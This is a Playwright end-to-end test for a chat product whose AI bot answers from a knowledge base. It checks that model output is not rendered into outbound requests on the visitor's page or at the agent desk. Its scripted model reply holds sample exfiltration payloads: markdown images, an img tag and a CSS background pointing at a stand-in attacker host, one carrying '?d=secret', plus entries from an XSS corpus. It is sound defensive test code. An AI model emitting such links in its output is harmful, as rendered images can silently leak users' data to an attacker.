import { expect } from "@playwright/test";
import { startModelServer } from "@/lib/testing/model-server";
import { EVIL_HOST, xssCorpus } from "@/lib/testing/xss-corpus";
import { watch } from "./hostile";
import { api, say, signIn, test, unique, visitChatPage } from "./people";

test("what a model says of pictures, pages and styles asks nobody for anything, here or at the desk (S-E2, S-F1)", async ({
  browser,
}) => {
  const model = await startModelServer();
  const word = unique("moonvase");
  const question = `How heavy is the ${word}?`;
  const items = [{ question, answer: `The ${word} weighs two kilos.` }];
  const source = await api<{ id: string }>("POST", "/knowledge/sources", { kind: "faq", items });
  await expect
    .poll(async () => (await api<{ status: string }>("GET", `/knowledge/sources/${source.id}`)).status)
    .toBe("ready");
  const leaks = xssCorpus.filter((words) => words.includes(EVIL_HOST)).slice(0, 30);
  model.says(
    [
      `The ${word} weighs two kilos [1].`,
      `![see](https://${EVIL_HOST}/?d=secret) ![see][p] <img src="https://${EVIL_HOST}/i.png">`,
      `<style>body{background:url(https://${EVIL_HOST}/c.png)}</style> https://${EVIL_HOST}/preview`,
      ...leaks,
      `[p]: https://${EVIL_HOST}/p.png`,
    ].join("\n\n"),
  );
  const provider = await api<{ id: string }>("POST", "/providers", {
    kind: "openai-compatible",
    name: unique("Scripted"),
    baseUrl: model.url,
    apiKey: "sk-none",
    models: ["m"],
  });
  const bot = await api<{ id: string }>("POST", "/bots", {
    name: "Robin",
    providers: [{ providerId: provider.id, model: "m" }],
    knowledge: { sourceIds: [source.id] },
  });
  const inbox = await api<{ key: string }>("POST", "/inboxes", { name: "Modelled", botId: bot.id });

  const { page: visitor, context } = await visitChatPage(browser, inbox.key);
  const seen = watch(visitor);
  // In other words than the pair's: that one would be answered without a model.
  const asked = `Tell me the weight of your ${word} please, as I must carry it home`;
  await say(visitor, asked);
  const log = visitor.getByRole("log");
  await expect(log.getByText("weighs two kilos").first()).toBeVisible({ timeout: 30_000 });
  expect(model.prompts.length, "the model was asked").toBeGreaterThan(0);
  await expect(log.getByText(EVIL_HOST).first()).toBeVisible();
  const found = await api<{ data: { id: string }[] }>("GET", `/conversations?q=${encodeURIComponent(asked)}`);

  const agent = await signIn(browser);
  const seenAtDesk = watch(agent);
  await agent.goto(`/inbox/${found.data[0]?.id}`);
  await expect(agent.getByRole("log").getByText("weighs two kilos").first()).toBeVisible();
  for (const page of [visitor, agent]) {
    await page.mouse.move(500, 400);
    expect(await page.getByRole("log").locator(`img[src*="${EVIL_HOST}"], style, iframe, link`).count()).toBe(0);
  }
  expect(seen).toEqual([]);
  expect(seenAtDesk).toEqual([]);
  await context.close();
  await agent.context().close();
  await model.close();
});
